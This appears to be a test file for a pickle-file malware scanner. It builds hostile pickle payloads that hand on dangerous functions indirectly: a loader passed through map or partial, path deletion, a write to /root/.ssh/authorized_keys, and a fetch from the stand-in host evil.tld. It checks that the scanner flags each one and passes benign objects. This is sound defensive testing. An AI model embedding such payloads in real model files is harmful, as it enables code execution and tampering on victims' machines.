// Functions that are handed on instead of called, under whatever name and through whatever keeps them for a while.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { join, op, pickle, scan } from '../testing.ts'

const { global, text, call, list, tuple, dict, int, none, make } = op
const builtin = (name: string, ...args: Buffer[]) => call(global('builtins', name), ...args)
const partial = (...args: Buffer[]) => call(global('functools', 'partial'), ...args)
/** Partial functions are pickled around any function, and get their own by BUILD. */
const rebuilt = (callee: Buffer, named = join('}')) =>
  join(partial(global('builtins', 'len')), tuple(callee, tuple(text('x')), named, none), 'b')
const loader = global('nltk.data', 'load')
const file = call(global('pathlib', 'PosixPath'), text('/'), text('tmp'), text('x'))

const hostile: [what: string, content: Buffer][] = [
  ['map', builtin('list', builtin('map', loader, list(text('x.pickle'))))],
  ['map of a partial function', builtin('list', builtin('map', rebuilt(loader), list(int(1))))],
  [
    'a named argument of a partial function',
    builtin('map', rebuilt(global('json', 'loads'), dict({ object_hook: loader })), list(text('{}'))),
  ],
  ['a key function', builtin('sorted', list(text('a')), loader)],
  [
    'the factory of a dictionary',
    call(global('operator', 'getitem'), call(global('collections', 'defaultdict'), rebuilt(loader)), text('x')),
  ],
  ['a function of a library that calls it', call(global('numpy', 'apply_along_axis'), loader, int(0), list(text('x')))],
  ['a method of a path', builtin('list', builtin('map', global('pathlib', 'Path.unlink'), list(file)))],
  [
    'a method by its name',
    builtin('list', builtin('map', call(global('operator', 'methodcaller'), text('touch')), list(file))),
  ],
  ['a place on the disk', call(global('matplotlib.image', 'paint'), text('/root/.ssh/authorized_keys'))],
  ['a place on the disk in parts', call(global('matplotlib.image', 'paint'), file)],
  ['an address, by a function of nobody', call(global('acme', 'grab'), text('https://evil.tld/x'))],
  ['a verb that no line divides', call(global('matplotlib.image', 'imsave'), text('x'))],
  ['a verb in the middle of a name', call(global('acme.tools', 'loadFromUrl'), text('x'))],
  ['a function under another roof', call(global('acme._vendor.cloudpickle', '_make_function'), none)],
  ['a copy of a library', call(global('acme.third_party.requests.api', 'get'), text('x'))],
  [
    'a class out of a dictionary',
    partialNew('builtins', 'type', text('X'), tuple(global('builtins', 'object')), dict({ a: int(1) })),
  ],
]

/** As protocols below 4 write an object that is made with named arguments. */
function partialNew(module: string, name: string, ...args: Buffer[]): Buffer {
  const making = builtin('getattr', global(module, name), text('__new__'))
  const kept = partial(making, global(module, name), ...args)
  return call(join(kept, tuple(making, tuple(global(module, name), ...args), dict({ real: op.yes }), none), 'b'))
}

for (const [what, content] of hostile) {
  test(`a function that acts is found in ${what}`, async () => {
    const { verdict, findings } = await scan('model.pkl', pickle(content))
    assert.notEqual(verdict, 'benign', JSON.stringify(findings))
    if (!what.startsWith('a class')) assert.equal(verdict, 'malicious', JSON.stringify(findings))
  })
}

const harmless: [what: string, content: Buffer][] = [
  ['an object with named arguments, in protocol 2', partialNew('sympy.core.symbol', 'Symbol', text('x'))],
  ['a type of the interpreter, by dill', call(call(global('dill._dill', '_load_type'), text('slice')), int(0), int(1))],
  ['a function of a library, kept', partial(global('nltk.tokenize', 'word_tokenize'))],
  [
    'a factory, not asked',
    call(
      global('collections', 'defaultdict'),
      partial(global('collections', 'defaultdict'), global('builtins', 'int')),
    ),
  ],
  [
    'a function in the state of an object',
    make(
      'sklearn.preprocessing._function_transformer',
      'FunctionTransformer',
      dict({ func: global('numpy', 'log1p') }),
    ),
  ],
]

for (const [what, content] of harmless) {
  test(`${what} is harmless`, async () => {
    const { verdict, findings } = await scan('model.pkl', pickle(content, 2))
    assert.equal(verdict, 'benign', JSON.stringify(findings))
  })
}
